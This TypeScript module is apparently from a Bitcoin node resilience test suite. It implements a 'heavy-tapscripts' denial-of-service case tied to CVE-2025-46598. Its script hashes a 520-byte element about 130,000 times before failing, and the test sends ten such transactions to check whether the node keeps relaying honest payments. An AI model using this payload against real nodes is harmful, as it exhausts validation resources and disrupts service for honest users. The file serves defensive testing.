/**
 * Scripts that take as long as they may, and fail at their end: who sends them pays nothing.
 *
 * @module
 */

import { concatBytes } from '../../core/base/bytes.ts';
import type { Transaction, TxInput, TxOutput } from '../../core/primitives/transaction.ts';
import { makeTransaction } from '../../core/primitives/transaction.ts';
import { TAPSCRIPT_LEAF_VERSION, tapleafHash, taptweakHash } from '../../core/script/taproot.ts';
import type { KeyCoin } from '../../core/signing/single-key.ts';
import type { Attack } from '../attack.ts';
import { sight, Unclear } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { FEE, hears, isAnnounced, payment } from './transactions.ts';

/** Bytes of the longest element. */
const ELEMENT_BYTES = 520;

/** OP_DUP, OP_RIPEMD160, OP_DROP. */
const HASH_ONCE: readonly number[] = [0x76, 0xa6, 0x75];

/** So many fill a transaction that weighs a little less than the 400,000 that are relayed. */
const HASHES = 130_000;

/** A tapscript that hashes the longest element again and again, and leaves nothing. */
function longScript(): Uint8Array {
  const push = Uint8Array.of(0x4d, ELEMENT_BYTES & 255, ELEMENT_BYTES >> 8, ...new Uint8Array(ELEMENT_BYTES).fill(7));
  const hashes = new Uint8Array(HASHES * HASH_ONCE.length);
  for (let at = 0; at < hashes.length; at += HASH_ONCE.length) hashes.set(HASH_ONCE, at);
  return concatBytes(push, hashes, Uint8Array.of(0x75, 0x00));
}

/** An output that the script may spend, and the control block that says so. */
function taprootOf({ ground, random }: Scene, script: Uint8Array): { readonly scriptPubKey: Uint8Array; readonly control: Uint8Array } {
  const { secp256k1 } = ground.world;
  const internalKey = secp256k1.publicKeyOf(Uint8Array.of(1, ...random.bytes(31)))?.subarray(1);
  const tweaked = internalKey && secp256k1.tweakXOnly(internalKey, taptweakHash(internalKey, tapleafHash(TAPSCRIPT_LEAF_VERSION, script)));
  if (internalKey === undefined || tweaked === undefined) throw new Unclear('chance gave no key');
  const control = concatBytes(Uint8Array.of(TAPSCRIPT_LEAF_VERSION | tweaked.parity), internalKey);
  return { scriptPubKey: concatBytes(Uint8Array.of(0x51, 32), tweaked.key), control };
}

const HEAVY = 10;

/** C14. */
export const HEAVY_SCRIPT_ATTACKS: readonly Attack[] = [
  {
    ...{ name: 'heavy-tapscripts', rows: ['C14'], cves: ['CVE-2025-46598'], expected: 'R B', needs: 'blocks' },
    what: `sends ${HEAVY} transactions whose script hashes 68 MB and fails at its end, each on another connection`,
    bound: 'honest peers are answered meanwhile, and an honest payment is passed on',
    play: async (scene) => {
      const [coin, control] = (await scene.fund(2)) as [KeyCoin, KeyCoin];
      const script = longScript();
      const taproot = taprootOf(scene, script);
      const value = coin.value - FEE;
      const funding = scene.purse.spend([coin], [{ value, scriptPubKey: taproot.scriptPubKey }]);
      if (!(await scene.isTaken(scene.build({ transactions: [funding], fees: FEE }))))
        throw new Unclear('the target does not take honest blocks');
      const heavy = (lockTime: number): Transaction => {
        const input: TxInput = {
          prevout: { txid: funding.txid, vout: 0 },
          scriptSig: new Uint8Array(0),
          sequence: 0xffffffff,
          witness: [script, taproot.control],
        };
        const output: TxOutput = scene.purse.output(value - FEE * 100n);
        return makeTransaction({ version: 2, inputs: [input], outputs: [output], lockTime });
      };
      const [sender, watcher] = [await scene.meetQuiet('honest'), await scene.meetQuiet('honest')];
      const sent = Array.from({ length: scene.times(HEAVY) }, (_, i) => heavy(i));
      scene.begin();
      for (const tx of sent) {
        const attacker = await scene.meet();
        attacker.send({ type: 'tx', tx });
      }
      const honest = payment(scene, control);
      sender.send({ type: 'tx', tx: honest });
      if (!(await hears(watcher, honest))) return sight('an honest payment is not passed on');
      const passed = sent.filter((tx) => isAnnounced(watcher, tx)).length;
      return passed === 0 ? sight('the honest payment is passed on, none of them', 'R', 'B') : sight(`${passed} of them are passed on`);
    },
  },
];
